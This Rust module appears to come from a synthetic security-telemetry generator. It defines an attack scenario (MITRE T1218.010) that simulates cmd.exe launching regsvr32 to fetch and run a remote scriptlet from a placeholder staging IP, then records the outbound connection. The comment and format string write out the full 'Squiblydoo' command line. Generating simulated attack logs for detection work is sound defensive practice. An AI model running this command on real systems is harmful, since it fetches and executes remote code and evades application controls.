//! Planted: regsvr32 running a remote scriptlet ("Squiblydoo"). The operator runs
//! `regsvr32 /s /n /u /i:http://<staging>/file.sct scrobj.dll`; regsvr32 fetches the
//! scriptlet from the staging server.

use serde_json::{Map, Value};

use super::{Env, Kind, Scenario, outbound, process_record};
use crate::synth::content as c;
use crate::synth::device::{Ctx, MINUTE, SECOND, Spawn};
use crate::synth::rng::Rng;
use crate::synth::world as w;

/// See the module documentation.
pub struct Regsvr32Squiblydoo;

impl Scenario for Regsvr32Squiblydoo {
    fn name(&self) -> &'static str {
        "regsvr32_squiblydoo"
    }

    fn kind(&self) -> Kind {
        Kind::Attack
    }

    fn technique(&self) -> &'static str {
        "T1218.010"
    }

    fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, rng: &mut Rng) -> Map<String, Value> {
        let shell = ctx.spawn(at, Spawn::new(&w::CMD, "\"C:\\Windows\\system32\\cmd.exe\"").parent(&env.session.explorer).lifetime(5 * MINUTE));
        let line = format!("regsvr32  /s /n /u /i:http://{}/file.sct scrobj.dll", c::STAGING_IP);
        let regsvr = ctx.spawn(at + 15 * SECOND, Spawn::new(&w::REGSVR32, line).parent(&shell).lifetime(10 * SECOND));
        let conn = outbound(c::STAGING_IP, 80, rng);
        ctx.connect(&regsvr, at + 16 * SECOND, &conn);
        process_record(&regsvr, &shell)
    }
}
